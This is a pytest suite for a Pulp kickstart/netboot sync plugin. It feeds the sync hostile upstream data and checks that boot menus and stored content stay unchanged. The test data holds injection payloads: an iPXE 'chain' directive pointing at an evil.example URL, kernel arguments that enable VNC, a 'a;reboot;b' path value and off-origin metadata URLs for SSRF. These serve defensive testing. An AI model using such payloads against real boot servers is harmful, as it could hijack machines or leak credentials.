"""Hostile upstreams against the real stack: nothing they send steers a boot or leaks a secret.

Each test plays one attack the security review found (docs/security.md) and
checks the sync fails with a clear error, or ignores the value, and that what
Pulp serves is unchanged.
"""

import hashlib
import re
import tempfile

import pytest
import requests

from tests.support import dnf, fedora
from tests.support.oci import Pusher
from tests.support.paginating_proxy import PagingProxy
from tests.support.pulp import unique

from .conftest import latest, reports

EVIL = "http://evil.example/pwn.ipxe"


@pytest.fixture(scope="module")
def workdir():
    with tempfile.TemporaryDirectory(prefix="kickstart-hostile-") as directory:
        yield directory


def _rewrite(path, old, new):
    text = path.read_text()
    assert old in text, f"{old!r} not in {path}"
    path.write_text(text.replace(old, new, 1))


def _fails_and_changes_nothing(api, repository, remote, *expected):
    before = latest(api, repository)
    task = api.sync(repository, remote, raise_on_failure=False)
    assert task["state"] == "failed", task
    message = task["error"]["description"]
    for text in expected:
        assert text in message, message
    assert latest(api, repository) == before
    return message


# -- 1. nothing from upstream becomes boot-script syntax ----------------------------------


def test_a_treeinfo_continuation_line_cannot_reach_the_menu(
    api,
    workdir,
    serve_tree,
    make_dnf_remote,
    repository,
    distribute,
    upstream,
    make_remote,
    publish_release,
):
    publish_release(upstream, "41", archs=("amd64",))
    api.sync(repository, make_remote(upstream))
    menu_url = distribute(repository) + "/boot.ipxe"
    menu_before = requests.get(menu_url, timeout=30).text

    tree = dnf.fedora_tree(workdir, release="42", salt=unique("-cont"))
    release = "[release]\nname = Fedora\nshort = Fedora\nversion = 42\n"
    _rewrite(tree.root / ".treeinfo", release, f"{release}  chain {EVIL}\n")
    message = _fails_and_changes_nothing(
        api, repository, make_dnf_remote(serve_tree(tree)), "[release] version"
    )
    assert "\n" not in message.split("[release] version", 1)[0][-200:]
    assert requests.get(menu_url, timeout=30).text == menu_before
    assert "evil" not in menu_before


def test_a_kernel_path_with_arguments_fails_naming_the_key(
    api, workdir, serve_tree, make_dnf_remote, repository
):
    tree = dnf.fedora_tree(workdir, release="42", salt=unique("-args"))
    _rewrite(
        tree.root / ".treeinfo",
        "kernel = images/pxeboot/vmlinuz",
        "kernel = images/pxeboot/vmlinuz inst.vnc inst.vncpassword=x",
    )
    _fails_and_changes_nothing(
        api, repository, make_dnf_remote(serve_tree(tree)), "[images-x86_64] kernel", "inst.vnc"
    )


def test_tags_outside_the_oci_grammar_are_ignored_and_named(
    api, upstream, make_remote, repository, publish_release, distribute
):
    publish_release(upstream, "42", archs=("amd64",))
    injected = ["42\n-amd64", f"42\nchain {EVIL}"]
    with PagingProxy(upstream.base, page_size=100, extra_tags=injected) as proxy:
        remote = make_remote(Pusher(proxy.url, upstream.name), include_tags=["*"])
        task = api.sync(repository, remote)
    trees = api.trees(latest(api, repository))
    assert {(t["version"], t["arch"]) for t in trees} == {("42", "x86_64")}
    ignored = reports(task)["sync.ignored.tags"]
    assert ignored["total"] == 2 and "42\\n-amd64" in ignored["message"]
    menu = requests.get(distribute(repository) + "/boot.ipxe", timeout=30).text
    assert "evil" not in menu and "chain http://" in menu


def test_a_base_path_with_script_syntax_is_refused(api, repository):
    response = api.request(
        "POST",
        "distributions/kickstart/kickstart/",
        expect=(400,),
        json={
            "name": unique("d"),
            "base_path": "a;reboot;b",
            "repository": repository["pulp_href"],
        },
    )
    assert "base_path" in response.json()


# -- 3. requests and credentials stay where the admin pointed them --------------------------


def test_metadata_urls_outside_the_tree_are_never_fetched(
    api, workdir, serve_tree, make_dnf_remote, repository
):
    other = serve_tree(dnf.fedora_tree(workdir, release="40", salt=unique("-other")))
    tree = dnf.fedora_tree(workdir, release="42", salt=unique("-ssrf"))
    repomd = tree.root / "repodata" / "repomd.xml"
    primary = re.search(r'href="(repodata/[^"]*primary[^"]*)"', repomd.read_text()).group(1)
    for target in (f"{other.url}/{primary}", f"//{other.url.split('//', 1)[1]}/{primary}"):
        _rewrite(repomd, f'href="{primary}"', f'href="{target}"')
        remote = make_dnf_remote(serve_tree(tree), username="user", password="pw-not-for-others")
        message = _fails_and_changes_nothing(api, repository, remote, "not a relative path")
        assert "pw-not-for-others" not in message
        _rewrite(repomd, f'href="{target}"', f'href="{primary}"')
    assert other.requests == []

    _rewrite(
        tree.root / ".treeinfo",
        "kernel = images/pxeboot/vmlinuz",
        f"kernel = {other.url}/images/pxeboot/vmlinuz",
    )
    _fails_and_changes_nothing(api, repository, make_dnf_remote(serve_tree(tree)), "kernel")
    assert other.requests == []


def test_a_tag_list_that_continues_on_another_origin_is_not_followed(
    api, workdir, upstream, make_remote, repository, publish_release, serve_tree
):
    publish_release(upstream, "42", archs=("amd64",))
    publish_release(upstream, "43", archs=("amd64",))
    elsewhere = serve_tree(dnf.DnfTree(tempfile.mkdtemp(dir=workdir)))
    with PagingProxy(upstream.base, page_size=1, link_base=elsewhere.url) as proxy:
        remote = make_remote(Pusher(proxy.url, upstream.name))
        _fails_and_changes_nothing(api, repository, remote, "another origin")
    assert elsewhere.requests == []


def test_a_tag_list_that_never_ends_is_cut_at_its_cap(
    api, upstream, make_remote, repository, publish_release
):
    publish_release(upstream, "42", archs=("amd64",))
    with PagingProxy(upstream.base, page_size=100, pad_bytes=5 * 1024 * 1024) as proxy:
        remote = make_remote(Pusher(proxy.url, upstream.name))
        _fails_and_changes_nothing(api, repository, remote, "KICKSTART_MAX_TAG_PAGE_BYTES")


def test_a_treeinfo_past_its_cap_fails_naming_the_setting(
    api, workdir, serve_tree, make_dnf_remote, repository
):
    tree = dnf.fedora_tree(workdir, release="42", salt=unique("-big"))
    with open(tree.root / ".treeinfo", "a") as treeinfo:
        treeinfo.write(("# padding\n" * 1024) * 120)  # 1.2 MiB
    _fails_and_changes_nothing(
        api, repository, make_dnf_remote(serve_tree(tree)), "KICKSTART_MAX_TREEINFO_BYTES"
    )


# -- 5. one tenant's sync never changes or breaks another's --------------------------------


def test_one_manifest_under_two_releases_in_one_sync_is_two_trees(
    api, upstream, make_remote, repository
):
    files = fedora.tree_files("42", "amd64", salt=upstream.name)
    digest, _ = upstream.netboot("42-amd64", files)
    upstream.netboot("43-amd64", files)
    api.sync(repository, make_remote(upstream))
    trees = api.trees(latest(api, repository))
    assert sorted((t["version"], t["digest"]) for t in trees) == [("42", digest), ("43", digest)]
    assert len({t["identity"] for t in trees}) == 2
    (only,) = api.list("content/kickstart/trees/", identity=trees[0]["identity"])
    assert only["version"] == trees[0]["version"]


def test_one_manifest_under_two_releases_is_two_trees(
    api, upstream, make_remote, repository, cleanup, distribute
):
    files = fedora.tree_files("42", "amd64", salt=upstream.name)
    digest, _ = upstream.netboot("42-amd64", files)
    api.sync(repository, make_remote(upstream, include_tags=["42-*"]))
    upstream.netboot("43-amd64", files)  # the same manifest bytes under another release
    other = api.create("repositories/kickstart/kickstart/", {"name": unique("repo")})
    cleanup(other["pulp_href"])

    api.sync(other, make_remote(upstream, include_tags=["43-*"]))

    (first,) = api.trees(latest(api, repository))
    (second,) = api.trees(latest(api, other))
    assert first["digest"] == second["digest"] == digest
    assert (first["version"], second["version"]) == ("42", "43")
    kernel = dict(files)["vmlinuz"]
    for repo, release in ((repository, "42"), (other, "43")):
        base = distribute(repo)
        url = f"{base}/{release}/x86_64/images/pxeboot/vmlinuz"
        assert requests.get(url, timeout=30).content == kernel


# -- 6. fail closed -------------------------------------------------------------------------


def test_a_stored_tree_is_not_kept_under_gpg_keys_without_a_valid_signature(
    api, workdir, serve_tree, make_dnf_remote, repository, cleanup
):
    signer = dnf.make_key("Hostile Signer", workdir)
    trusted = dnf.make_key("Trusted Signer", workdir)
    try:
        tree = dnf.fedora_tree(workdir, release="42", key=signer, salt=unique("-gpg"))
        server = serve_tree(tree)
        api.sync(repository, make_dnf_remote(server))  # stored once, without keys
        guarded = api.create("repositories/kickstart/kickstart/", {"name": unique("repo")})
        cleanup(guarded["pulp_href"])
        task = api.sync(
            guarded,
            make_dnf_remote(server, gpg_keys=trusted.public_armored),
            raise_on_failure=False,
        )
        assert task["state"] == "failed"
        assert "not in gpg_keys" in task["error"]["description"]
        assert api.trees(latest(api, guarded)) == []

        # The signer's key verifies the stored tree (its RPMs are fetched again, not
        # unpacked); that keyring is recorded, so the next keyed sync fetches nothing.
        keyed = make_dnf_remote(server, gpg_keys=signer.public_armored)
        server.requests.clear()
        verified = api.sync(guarded, keyed)
        assert "sync.verifying.packages" in reports(verified)
        assert [p for p in server.requests if p.endswith(".rpm")]
        (kept,) = api.trees(latest(api, guarded))
        assert [signer.fingerprint.upper()] in kept["source"]["verified_with"]
        server.requests.clear()
        again = api.sync(guarded, keyed)
        assert "sync.verifying.packages" not in reports(again)
        assert not [p for p in server.requests if p.endswith(".rpm")]
    finally:
        signer.close()
        trusted.close()


def test_a_mirror_sync_that_would_remove_every_tree_needs_allow_empty(
    api, upstream, make_remote, repository, publish_release
):
    publish_release(upstream, "42", archs=("amd64",))
    api.sync(repository, make_remote(upstream))
    held = latest(api, repository)
    nothing = make_remote(upstream, include_tags=["no-such-release*"])

    task = api.sync(repository, nothing, mirror=True, raise_on_failure=False)
    assert task["state"] == "failed"
    assert "allow_empty" in task["error"]["description"]
    assert latest(api, repository) == held

    body = {"remote": nothing["pulp_href"], "mirror": True, "allow_empty": True}
    api.wait(api.post(f"{repository['pulp_href']}sync/", body)["task"])
    assert api.trees(latest(api, repository)) == []


def test_non_sha256_checksums_are_verified_and_unknown_types_fail(
    api, workdir, serve_tree, make_dnf_remote, repository
):
    # sha512 (a digest Pulp computes while downloading) and md5 (one it does not),
    # each on a tree of its own: a tree Pulp already stores would be reused.
    for algorithm in ("sha512", "md5", "crc32"):
        tree = dnf.fedora_tree(workdir, release="42", salt=unique(f"-{algorithm}"))
        treeinfo = tree.root / ".treeinfo"
        stage2 = tree.images["images/install.img"]
        sha256_line = f"images/install.img = sha256:{hashlib.sha256(stage2).hexdigest()}"
        server = serve_tree(tree)
        if algorithm == "crc32":
            _rewrite(treeinfo, sha256_line, "images/install.img = crc32:abcd1234")
            _fails_and_changes_nothing(api, repository, make_dnf_remote(server), "'crc32'")
            continue
        wrong = f"images/install.img = {algorithm}:{hashlib.new(algorithm, b'x').hexdigest()}"
        _rewrite(treeinfo, sha256_line, wrong)
        _fails_and_changes_nothing(
            api, repository, make_dnf_remote(server), "images/install.img", algorithm
        )
        right = f"images/install.img = {algorithm}:{hashlib.new(algorithm, stage2).hexdigest()}"
        _rewrite(treeinfo, wrong, right)
        api.sync(repository, make_dnf_remote(server))
        (synced,) = api.trees(latest(api, repository))
        assert any(f"verified against its {algorithm}" in w for w in synced["warnings"])
        stored = next(f for f in synced["files"] if f["path"] == "images/install.img")
        assert stored["sha256"] == hashlib.sha256(stage2).hexdigest()
